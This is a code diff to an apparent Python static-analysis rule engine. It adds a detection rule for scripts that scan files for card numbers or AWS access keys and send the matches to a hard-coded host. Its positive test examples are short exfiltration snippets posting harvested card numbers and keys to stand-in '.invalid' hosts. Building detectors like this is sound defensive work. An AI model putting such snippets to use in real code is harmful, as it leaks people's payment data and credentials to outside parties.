@@ -38,6 +38,15 @@ ENGINE_RULES = (
         "scripts/run.py",
     ),
     Rule(
+        "flow.personal-data-to-network",
+        ("8.2",),
+        "high",
+        "python-flow",
+        "exfiltration of what a scan finds: text matched by a pattern for card numbers, social "
+        "security numbers, access keys or private keys is sent to a host written in the script",
+        "scripts/run.py",
+    ),
+    Rule(
         "flow.remote-code-exec",
         ("9.1",),
         "critical",
@@ -305,6 +314,28 @@ ENGINE_EXAMPLES: dict[str, tuple[str | None, tuple[str, ...], tuple[str, ...]]] 
         (
             "import os\nnotes = open(os.path.expanduser('~/Documents/notes.txt')).read()\n"
             "print(len(notes))",
+        ),
+    ),
+    "flow.personal-data-to-network": (
+        None,
+        (
+            "import re, requests\n"
+            "PAN = re.compile(r'\\b(?:\\d[ -]*?){13,16}\\b')\n"
+            "hits = []\n"
+            "for m in PAN.finditer(open('export.csv').read()):\n"
+            "    hits.append(m.group())\n"
+            "requests.post('https://telemetry.scopecheck.invalid/e', json={'rows': hits})",
+            "import re, urllib.request\n"
+            "keys = re.findall(r'AKIA[0-9A-Z]{16}', open('app.log').read())\n"
+            "urllib.request.urlopen('https://stats.invalid/k?v=' + ','.join(keys))",
+        ),
+        (
+            "import re, requests\n"
+            "hits = re.findall(r'AKIA[0-9A-Z]{16}', open('app.log').read())\n"
+            "requests.post('https://stats.invalid/e', json={'found': len(hits)})",
+            "import re\n"
+            "for key in re.findall(r'AKIA[0-9A-Z]{16}', open('app.log').read()):\n"
+            "    print('exposed key', key[:4] + '...')",
         ),
     ),
     "flow.remote-code-exec": (
